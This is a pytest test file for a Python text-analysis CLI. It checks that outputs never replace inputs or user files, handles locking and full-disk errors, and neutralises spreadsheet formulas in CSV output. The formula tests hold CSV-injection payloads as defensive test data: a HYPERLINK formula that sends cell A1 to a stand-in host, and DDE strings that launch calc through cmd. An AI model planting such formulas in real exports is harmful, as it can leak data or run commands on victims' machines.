"""A researcher's files are safe: no output replaces an input or a file the tool did not write,
outputs go where the researcher expects, in a format the tool writes, one run at a time, and a
full disk or a wrong --reference is the user's stop (exit code 2), not an internal error."""

from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest

from analysis.atomic import LOCK_NAME, folder_lock
from analysis.cli import check_feature_set, main, tableset
from analysis.cli import compare as compare_cli
from analysis.cli.outputs import in_project
from analysis.compare.results import read_comparison
from analysis.config import ROOT
from analysis.formulas import FORMULA_START, neutralise_cells, restore_cells
from analysis.tables import read_table
from conftest import run_cli, write_corpus

FAST = ["--groups", "tone", "--n-resamples", "100", "--workers", "1"]


def _digest(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden ones too) -> its sha256."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def table_corpus(tmp_path) -> Path:
    path = tmp_path / "corpus.csv"
    pd.DataFrame({"article_id": ["a1", "a2"],
                  "text": ["Officials met on Tuesday. The talks were a breakthrough.",
                           "Risks remain, although growth could strengthen ties."]}
                 ).to_csv(path, index=False)
    return path


@pytest.fixture
def old_set(tiny_processed, tmp_path) -> Path:
    """A complete set written by the tool (features, companions, manifest), to run over."""
    out = tmp_path / "out"
    shutil.copytree(tiny_processed, out)
    return out


# --------------------------------------------------------------------------- 1, 2: inputs


def test_output_that_is_the_corpus_is_refused(table_corpus, capsys):
    before = table_corpus.read_bytes()
    assert main(["features", str(table_corpus), "-o", str(table_corpus), *FAST]) == 2
    assert "is the corpus" in capsys.readouterr().err
    assert table_corpus.read_bytes() == before


@pytest.mark.parametrize("option", ["--registry", "--dictionary"])
def test_a_table_of_the_set_onto_an_input_is_refused(table_corpus, tmp_path, option, capsys):
    """The features table goes elsewhere, but one of its companions would land on an input."""
    out = tmp_path / "out"
    out.mkdir()
    victim = out / "terms.csv"  # checked before it is read: any content will do
    victim.write_text("name,type,affiliation,note\n" if option == "--registry"
                      else "category,pattern\n")
    before = _digest(out)
    assert main(["features", str(table_corpus), "-o", str(out / "features.csv"), option,
                 str(victim), *FAST]) == 2
    assert f"{victim}: is the {option[2:]}" in capsys.readouterr().err
    assert _digest(out) == before


def test_an_output_that_is_the_study_is_refused(table_corpus, tmp_path, capsys):
    study = tmp_path / "features.csv"
    study.write_text("title: a study named like a table\n")
    assert main(["features", str(table_corpus), "-o", str(study), "--study", str(study),
                 *FAST]) == 2
    assert "is the study" in capsys.readouterr().err
    assert study.read_text() == "title: a study named like a table\n"


@pytest.mark.parametrize("target", ["metadata.csv", "features.csv", "sub/features.csv"])
def test_an_output_inside_a_folder_corpus_is_refused(tiny_corpus, target, capsys):
    before = _digest(tiny_corpus)
    assert main(["features", str(tiny_corpus), "-o", str(tiny_corpus / target), *FAST]) == 2
    assert "inside the corpus folder" in capsys.readouterr().err
    assert _digest(tiny_corpus) == before


def test_attributions_output_that_is_the_corpus_is_refused(table_corpus, capsys):
    before = table_corpus.read_bytes()
    assert main(["attributions", str(table_corpus), "-o", str(table_corpus)]) == 2
    assert "is the corpus" in capsys.readouterr().err
    assert table_corpus.read_bytes() == before


# --------------------------------------------------------------------------- 3: the user's files


@pytest.mark.parametrize("groups", ["tone", "tone,sources,terms"])
@pytest.mark.parametrize("name", ["attributions.csv", "terms.csv"])
def test_the_users_own_table_in_the_output_folder_is_never_lost(table_corpus, tmp_path, name,
                                                                 groups, capsys):
    """--groups tone would delete them, a full run overwrite them: both are refused."""
    out = tmp_path / "out"
    out.mkdir()
    (out / name).write_text("my,own\nhand,coded\n")
    rc = main(["features", str(table_corpus), "-o", str(out / "features.csv"), "--groups",
               groups, "--n-resamples", "100", "--workers", "1"])
    err = capsys.readouterr().err
    assert rc == 2, err
    assert f"{out / name}: not written by this tool" in err and "another -o" in err
    assert sorted(p.name for p in out.iterdir()) == [name]
    assert (out / name).read_text() == "my,own\nhand,coded\n"


def test_a_table_edited_since_the_run_is_not_replaced(old_set, tiny_corpus, capsys):
    """The previous run's manifest tells the tool's tables: one whose bytes changed is kept."""
    edited = old_set / "attributions.csv"
    edited.write_text(edited.read_text() + "t-alpha,99,my correction,,,,,,,,,,,,,\n")
    before = _digest(old_set)
    assert main(["features", str(tiny_corpus), "-o", str(old_set / "features.csv"),
                 *FAST]) == 2
    assert f"{edited}: changed since this tool wrote it" in capsys.readouterr().err
    assert _digest(old_set) == before
    complete, reason, _ = check_feature_set(old_set / "features.csv", verify=True)
    assert not complete and "move it away" in reason


def test_the_tools_own_set_is_replaced(old_set, tiny_corpus):
    assert (old_set / "attributions.csv").exists()
    assert main(["features", str(tiny_corpus), "-o", str(old_set / "features.csv"),
                 *FAST]) == 0
    assert not (old_set / "attributions.csv").exists()  # the tool's, not written this time
    assert check_feature_set(old_set / "features.csv", verify=True)[0]
    assert not [p.name for p in old_set.iterdir() if p.name.startswith(".")]  # lock, journal


def test_a_swap_killed_half_way_leaves_tables_the_next_run_knows(old_set, monkeypatch):
    """Killed between renames: new tables beside the old manifest; the journal knows them."""
    frame = pd.DataFrame({"article_id": ["z"]})
    new = {"features": frame, "evidence": frame, "audit": frame.iloc[:0],
           "errors": pd.DataFrame(columns=["source", "article_id", "problem", "message"])}
    journal = old_set / ".features.swap.json"
    real_replace = os.replace

    def replace(src, dst):
        if Path(dst).name == "errors.csv":  # audit.csv is in place, errors.csv not yet
            raise KeyboardInterrupt
        return real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(KeyboardInterrupt):
        tableset.write_feature_set(new, old_set / "features.csv")
    monkeypatch.undo()
    assert journal.exists() and not (old_set / "features.csv").exists()
    tableset.write_feature_set(new, old_set / "features.csv")  # not refused
    assert check_feature_set(old_set / "features.csv", verify=True)[0]
    assert not journal.exists()


# --------------------------------------------------------------------------- 4: the default -o


def test_without_o_outside_the_project_the_run_is_refused(tiny_corpus, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    processed = ROOT / "data" / "processed"
    before = _digest(processed) if processed.exists() else {}
    for command in ("features", "attributions"):
        res = run_cli(command, str(tiny_corpus), *(FAST if command == "features" else []),
                      cwd=elsewhere)
        assert res.returncode == 2, res.stderr
        assert "give -o FILE" in res.stderr and "inside the project" in res.stderr
    assert (_digest(processed) if processed.exists() else {}) == before
    assert list(elsewhere.iterdir()) == []


def test_the_default_output_applies_inside_the_project(tmp_path):
    assert in_project(ROOT) and in_project(ROOT / "notebooks")
    assert not in_project(tmp_path)


# --------------------------------------------------------------------------- 5: suffixes


@pytest.mark.parametrize("command", ["features", "attributions"])
@pytest.mark.parametrize("name", ["x.xlsx", "x.tsv", "features"])
def test_a_suffix_the_tool_cannot_write_is_refused(table_corpus, tmp_path, command, name,
                                                   capsys):
    out = tmp_path / "out" / name
    assert main([command, str(table_corpus), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "cannot be written" in err and ".csv, .parquet, .pq" in err
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- 6: exit codes


def test_compare_with_an_unknown_reference_is_a_usage_stop(old_set, capsys):
    before = _digest(old_set)
    rc = main(["compare", str(old_set / "features.csv"), "--by", "genre", "--reference",
               "editorial", "--n-resamples", "100"])
    err = capsys.readouterr().err
    assert rc == 2, err
    assert "--reference editorial: no such group of 'genre'" in err
    assert "analysis, news report" in err and "internal error" not in err
    assert _digest(old_set) == before


def _disk_full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_while_writing_the_set_is_exit_2_and_keeps_the_old_set(
        old_set, tiny_corpus, monkeypatch, capsys):
    before = _digest(old_set)
    monkeypatch.setattr(tableset, "_write_frame", _disk_full)
    assert main(["features", str(tiny_corpus), "-o", str(old_set / "features.csv"),
                 *FAST]) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "nothing was replaced" in err
    assert "internal error" not in err
    assert _digest(old_set) == before  # no staging folder, no journal, no lock left


def test_a_full_disk_while_writing_comparison_tables_is_exit_2(old_set, monkeypatch, capsys):
    monkeypatch.setattr(tableset, "_write_frame", _disk_full)
    rc = main(["compare", str(old_set / "features.csv"), "--by", "genre", "--n-resamples",
               "100", "--n-permutations", "100"])
    err = capsys.readouterr().err
    assert rc == 2, err
    assert "No space left on device" in err and "internal error" not in err
    assert not [p for p in old_set.iterdir() if p.name.endswith(".tmp")]


def test_a_full_disk_anywhere_else_is_exit_2(old_set, monkeypatch, capsys):
    """An OSError without a file name (a write deep in a library) is still the disk's."""
    monkeypatch.setattr(compare_cli, "write_json", _disk_full)
    rc = main(["compare", str(old_set / "features.csv"), "--by", "genre", "--n-resamples",
               "100", "--n-permutations", "100"])
    err = capsys.readouterr().err
    assert rc == 2 and "No space left on device" in err and "internal error" not in err


# --------------------------------------------------------------------------- 7: one run at a time


def _hold(folder: Path):
    fh = open(folder / LOCK_NAME, "a")
    fcntl.flock(fh, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return fh


def test_a_second_run_into_a_folder_being_written_is_refused(old_set, tiny_corpus, capsys):
    before = {k: v for k, v in _digest(old_set).items() if k != LOCK_NAME}
    fh = _hold(old_set)  # another run (a separate open file: flock keeps them apart)
    try:
        for argv in (["features", str(tiny_corpus), "-o", str(old_set / "features.csv"), *FAST],
                     ["compare", str(old_set / "features.csv"), "--by", "genre"],
                     ["attributions", str(tiny_corpus), "-o", str(old_set / "a.csv")]):
            assert main(argv) == 2, argv
            assert "another run of python -m analysis is writing" in capsys.readouterr().err
        assert {k: v for k, v in _digest(old_set).items() if k != LOCK_NAME} == before
    finally:
        fh.close()
    assert main(["features", str(tiny_corpus), "-o", str(old_set / "features.csv"),
                 *FAST]) == 0
    assert not (old_set / LOCK_NAME).exists()


def test_two_processes_one_folder(tmp_path, tiny_corpus):
    """A real second process: refused while the first holds the folder."""
    out = tmp_path / "out"
    with folder_lock(out):
        res = run_cli("features", str(tiny_corpus), "-o", str(out / "features.csv"), *FAST)
    assert res.returncode == 2, res.stderr
    assert "another run" in res.stderr and "wait for it to finish" in res.stderr
    assert not (out / "features.csv").exists()


def test_the_lock_is_taken_again_after_it_is_released(tmp_path):
    with folder_lock(tmp_path):
        pass
    with folder_lock(tmp_path):
        assert (tmp_path / LOCK_NAME).exists()
    assert not (tmp_path / LOCK_NAME).exists()


def test_the_corpus_folder_fixture_is_untouched_by_refusals(tmp_path):
    """Refusals come before any article is read: nothing is created anywhere."""
    corpus = write_corpus(tmp_path / "c")
    assert main(["features", str(corpus), "-o", str(tmp_path / "o" / "f.txt")]) == 2
    assert not (tmp_path / "o").exists()


# --------------------------------------------------------------------------- 8: formulas

EVIL = {"title": "=HYPERLINK(\"http://x.test/\"&A1,\"open\")", "outlet": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _cells(path: Path) -> list[tuple[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    return [(h, v) for row in rows for h, v in zip(rows[0], row)] + [("header", h)
                                                                    for h in rows[0]]


def test_text_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    corpus = tmp_path / "corpus.csv"
    pd.DataFrame({
        "article_id": ["=a1", "a2"], "title": [EVIL["title"], "-Nate Cohn"],
        "outlet": [EVIL["outlet"], "+Times"], "score": [-0.5, 2.0],
        "text": ["-2+3+cmd|' /C calc'!A0 officials welcomed the breakthrough. Risks remain.",
                 "Officials warned of a grave threat. Growth could strengthen ties."]},
    ).to_csv(corpus, index=False)
    out = tmp_path / "out" / "features.csv"
    assert main(["features", str(corpus), "-o", str(out), *FAST]) == 0
    numbers = 0
    for table in sorted(out.parent.glob("*.csv")):
        for column, value in _cells(table):
            if value[:1] and value[0] in FORMULA_START:  # only numbers may start so
                float(value)
                numbers += 1
    assert numbers  # negative numbers stay numbers ("-0.5", tone scores)
    raw = out.read_text()
    assert "'=HYPERLINK" in raw and "'-Nate Cohn" in raw and ",-0.5," in raw
    features = read_table(out)
    assert features["title"].tolist() == [EVIL["title"], "-Nate Cohn"]
    assert features["article_id"].tolist() == ["=a1", "a2"]
    assert features["score"].tolist() == [-0.5, 2.0]
    evidence = read_table(out.with_name("evidence.csv"))
    first = evidence[evidence["sentence"].str.startswith("-2+3")]
    assert len(first) and set(first["article_id"]) == {"=a1"}
    for _, e in evidence.iterrows():  # offsets still index the sentence as scored (term: lemma)
        assert e["sentence"][e["start"]:e["end"]].lower().startswith(e["term"].lower()[:5])
    # Group names: written neutralised, read back as in features.csv by read_comparison.
    assert main(["compare", str(out), "--by", "outlet", "--n-resamples", "100",
                 "--n-permutations", "100", "--reference", EVIL["outlet"]]) == 0
    assert "'@SUM" in out.with_name("groups.csv").read_text()
    tables = read_comparison(out.parent, "outlet", out)
    assert not tables.reason, tables.reason
    assert set(tables.table("groups")["group"]) == set(features["outlet"])
    assert set(tables.table("contrasts")["reference"]) == {EVIL["outlet"]}


@pytest.mark.parametrize("text", ["=1+1", "+1x", "-x", "@a", "\tx", "\rx", "'=x", "''-x",
                                  "'plain", "-0.5", "+1", "1e-05", "", "plain"])
def test_neutralising_is_undone_exactly(text):
    df = pd.DataFrame({"c": [text], "n": [-1.5]})
    written = neutralise_cells(df)
    cell = written["c"].iloc[0]
    assert not (cell[:1] and cell[0] in FORMULA_START) or float(cell) is not None
    assert restore_cells(written).equals(df)
    assert written["n"].iloc[0] == -1.5
